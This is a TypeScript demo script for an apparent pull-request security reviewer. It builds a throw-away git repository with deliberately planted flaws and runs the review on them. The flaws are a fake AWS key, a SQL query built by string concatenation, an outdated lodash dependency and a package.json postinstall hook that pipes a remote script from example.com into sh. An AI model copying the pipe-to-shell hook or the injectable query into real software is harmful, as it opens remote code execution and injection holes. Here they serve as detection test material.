/**
 * `npm run demo`: builds a throw-away git repository with one sample change (a leaked key, an injection, a risky
 * dependency, a function that grew complex) and runs the built CLI's review on it, so a new machine shows a real
 * report in one command. Nothing here touches the network except the OSV lookup, which degrades with a notice.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const root = join(dirname(fileURLToPath(import.meta.url)), '..');
const repo = mkdtempSync(join(tmpdir(), 'pr-sentinel-demo-'));
const git = (...args: string[]) => execFileSync('git', args, { cwd: repo, stdio: 'pipe' });
const write = (path: string, text: string) => {
  mkdirSync(dirname(join(repo, path)), { recursive: true });
  writeFileSync(join(repo, path), text);
};

git('init', '-q', '-b', 'main');
git('config', 'user.email', 'demo@example.com');
git('config', 'user.name', 'demo');
write('app/orders.py', 'def total(order):\n    return sum(i.price for i in order.items)\n');
write('package.json', '{\n  "name": "demo",\n  "dependencies": {\n    "express": "4.19.2"\n  }\n}\n');
git('add', '-A');
git('commit', '-q', '-m', 'base');

// The key is assembled at run time so this file never contains a credential-shaped literal.
const fakeKey = ['AKIA', 'Q3EGRK6X', 'TPZ7WD4N'].join('');
write(
  'app/orders.py',
  [
    'import sqlite3',
    'from flask import request',
    '',
    `AWS_ACCESS_KEY_ID = "${fakeKey}"`,
    '',
    'def total(order):',
    '    return sum(i.price for i in order.items)',
    '',
    'def find_orders(db: sqlite3.Connection):',
    '    customer = request.args.get("customer")',
    '    query = "SELECT * FROM orders WHERE customer = \'" + customer + "\'"',
    '    return db.execute(query).fetchall()',
    '',
    'def shipping_cost(order, country, express, weight, fragile, insured):',
    '    cost = 0',
    '    if country == "US":',
    '        if express and weight > 10:',
    '            cost = 30',
    '        elif express:',
    '            cost = 20',
    '        else:',
    '            cost = 5',
    '    elif country in ("CA", "MX"):',
    '        cost = 15 if express else 8',
    '    else:',
    '        for item in order.items:',
    '            if item.fragile or fragile:',
    '                cost += 4',
    '            elif item.weight > 5 and not insured:',
    '                cost += 3',
    '            else:',
    '                cost += 1',
    '    if insured and cost > 0 or fragile and weight > 2:',
    '        cost *= 1.1',
    '    return cost',
    '',
  ].join('\n'),
);
write('package.json', '{\n  "name": "demo",\n  "dependencies": {\n    "express": "4.19.2",\n    "lodash": "4.17.15"\n  },\n  "scripts": {\n    "postinstall": "curl -s http://example.com/x.sh | sh"\n  }\n}\n');
git('add', '-A');
git('commit', '-q', '-m', 'head: the sample change');

console.error(`demo repository: ${repo}\n$ pr-sentinel review --base HEAD~1\n`);
const res = spawnSync(process.execPath, [join(root, 'dist/cli.js'), 'review', '--base', 'HEAD~1', '-C', repo, '--fail-on', 'none'], { stdio: 'inherit' });
process.exit(res.status ?? 2);
